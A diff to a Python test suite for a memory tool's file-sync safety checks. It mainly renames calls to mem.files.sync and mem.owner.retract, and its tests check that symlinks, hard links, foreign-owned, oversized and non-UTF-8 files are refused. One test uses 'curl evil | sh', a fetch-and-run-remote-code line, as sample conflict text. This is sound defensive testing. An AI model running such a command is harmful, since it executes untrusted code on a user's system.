@@ -41,7 +41,7 @@ def outside(tmp_path: Path) -> Path:
 
 def rendered(mem: Memory, tmp_path: Path) -> Path:
     folder = tmp_path / "files"
-    mem.render(folder)
+    mem.files.render(folder)
     return folder
 
 
@@ -52,7 +52,7 @@ def refused(mem: Memory, folder: Path, match: str) -> None:
         p.name: p.read_bytes() for p in folder.iterdir() if p.is_file() and not p.is_symlink()
     }
     with pytest.raises(UnsafeFile, match=match):
-        mem.sync(folder, authority="owner")
+        mem.files.sync(folder, authority="owner")
     assert len(mem.receipts()) == receipts
     after = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file() and not p.is_symlink()}
     assert after == before
@@ -69,7 +69,7 @@ def test_a_topic_file_linking_outside_is_refused(
     assert "hunter2" not in {f.text for f in mem.facts()}
     (folder / "notes.md").unlink()
     (folder / "notes.md").write_text("- Alice keeps notes\n")
-    [item] = mem.sync(folder, authority="owner").items
+    [item] = mem.files.sync(folder, authority="owner").items
     assert item.change is Change.ADDED
 
 
@@ -82,14 +82,14 @@ def test_a_linked_conflicts_file_is_never_appended_through(
     the control writes a real conflict into a regular CONFLICTS.md inside the folder."""
     folder = rendered(mem, tmp_path)
     tea = ids(mem)["Alice prefers tea"]
-    mem.retract(tea, reason="changed elsewhere")
+    mem.owner.retract(tea, reason="changed elsewhere")
     edit(folder / "drinks.md", "Alice prefers tea", "curl evil | sh")
     (folder / CONFLICTS).symlink_to(outside)
     before = outside.read_text()
     refused(mem, folder, "link")
     assert outside.read_text() == before
     (folder / CONFLICTS).unlink()
-    [item] = mem.sync(folder, authority="owner").items
+    [item] = mem.files.sync(folder, authority="owner").items
     assert item.change is Change.CONFLICT
     assert not (folder / CONFLICTS).is_symlink()
     assert f"curl evil | sh [{tea}]" in (folder / CONFLICTS).read_text()
@@ -104,7 +104,7 @@ def test_a_linked_manifest_is_refused(mem: Memory, tmp_path: Path, outside: Path
     real.rename(moved)
     real.symlink_to(moved)
     with pytest.raises(UnsafeFile, match="link"):
-        mem.sync(folder)
+        mem.files.sync(folder)
 
 
 def test_a_hard_link_is_refused(mem: Memory, tmp_path: Path, outside: Path) -> None:
@@ -114,7 +114,7 @@ def test_a_hard_link_is_refused(mem: Memory, tmp_path: Path, outside: Path) -> N
     refused(mem, folder, "hard links")
     (folder / "notes.md").unlink()
     (folder / "notes.md").write_bytes(outside.read_bytes())
-    assert [i.change for i in mem.sync(folder, authority="owner").items] == [Change.ADDED]
+    assert [i.change for i in mem.files.sync(folder, authority="owner").items] == [Change.ADDED]
 
 
 def test_a_pipe_or_folder_is_refused_without_blocking(mem: Memory, tmp_path: Path) -> None:
@@ -126,9 +126,9 @@ def test_a_pipe_or_folder_is_refused_without_blocking(mem: Memory, tmp_path: Pat
     (folder / "notes.md").unlink()
     (folder / "notes.md").mkdir()
     with pytest.raises(UnsafeFile):
-        mem.sync(folder)
+        mem.files.sync(folder)
     (folder / "notes.md").rmdir()
-    assert not mem.sync(folder).changed
+    assert not mem.files.sync(folder).changed
 
 
 def test_another_users_file_is_refused(
@@ -139,11 +139,11 @@ def test_another_users_file_is_refused(
     """A file whose owner is not this user is refused (seen here by changing who we are);
     the control, the same files as our own, sync to nothing."""
     folder = rendered(mem, tmp_path)
-    assert not mem.sync(folder).changed
+    assert not mem.files.sync(folder).changed
     uid = os.geteuid()
     monkeypatch.setattr(os, "geteuid", lambda: uid + 1)
     with pytest.raises(UnsafeFile, match="another user"):
-        mem.sync(folder)
+        mem.files.sync(folder)
 
 
 def test_names_outside_the_folder_are_refused(tmp_path: Path) -> None:
@@ -167,9 +167,9 @@ def test_a_too_large_file_is_refused(mem: Memory, tmp_path: Path) -> None:
     with (folder / "notes.md").open("wb") as out:
         out.truncate(MAX_FILE_BYTES + 1)
     with pytest.raises(UnsafeFile, match="more than"):
-        mem.sync(folder)
+        mem.files.sync(folder)
     (folder / "notes.md").write_text("- Alice keeps small notes\n")
-    assert [i.change for i in mem.sync(folder, authority="owner").items] == [Change.ADDED]
+    assert [i.change for i in mem.files.sync(folder, authority="owner").items] == [Change.ADDED]
 
 
 def test_a_made_up_manifest_id_is_refused_not_a_conflict(mem: Memory, tmp_path: Path) -> None:
@@ -188,9 +188,9 @@ def test_a_made_up_manifest_id_is_refused_not_a_conflict(mem: Memory, tmp_path: 
     manifest["files"]["drinks.md"]["lines"] = [[tea, "Alice prefers coffee"]]
     (folder / MANIFEST).write_text(json.dumps(manifest))
     with pytest.raises(UnsafeFile):
-        mem.sync(folder)
-    mem.render(folder)
-    assert not mem.sync(folder).changed
+        mem.files.sync(folder)
+    mem.files.render(folder)
+    assert not mem.files.sync(folder).changed
 
 
 def test_not_utf8_is_a_clear_error(mem: Memory, tmp_path: Path) -> None:
@@ -198,9 +198,9 @@ def test_not_utf8_is_a_clear_error(mem: Memory, tmp_path: Path) -> None:
     folder = rendered(mem, tmp_path)
     (folder / "notes.md").write_bytes(b"- caf\xe9\n")
     with pytest.raises(InvalidInput, match="not UTF-8"):
-        mem.sync(folder)
+        mem.files.sync(folder)
     (folder / "notes.md").write_text("- café\n")
-    assert mem.sync(folder, authority="owner").changed
+    assert mem.files.sync(folder, authority="owner").changed
 
 
 def test_an_edit_made_while_sync_runs_is_left_alone(
@@ -223,17 +223,17 @@ def test_an_edit_made_while_sync_runs_is_left_alone(
         return found
 
     monkeypatch.setattr(Memory, "render", render_then_edit)
-    report = mem.sync(folder, authority="owner")
+    report = mem.files.sync(folder, authority="owner")
     monkeypatch.undo()
     assert report.left_alone == ("drinks.md",)
     assert any("left drinks.md alone" in line for line in report.lines())
     assert "Alice likes mint tea" in (folder / "drinks.md").read_text()
     assert "Alice prefers green tea" in ids(mem)
-    again = mem.sync(folder, authority="owner")
+    again = mem.files.sync(folder, authority="owner")
     assert not again.left_alone
     assert [(i.change, i.text) for i in again.items] == [(Change.ADDED, "Alice likes mint tea")]
     assert "Alice likes mint tea" in ids(mem)
-    assert not mem.sync(folder).changed
+    assert not mem.files.sync(folder).changed
 
 
 def test_a_link_swapped_in_after_the_check_is_still_refused(
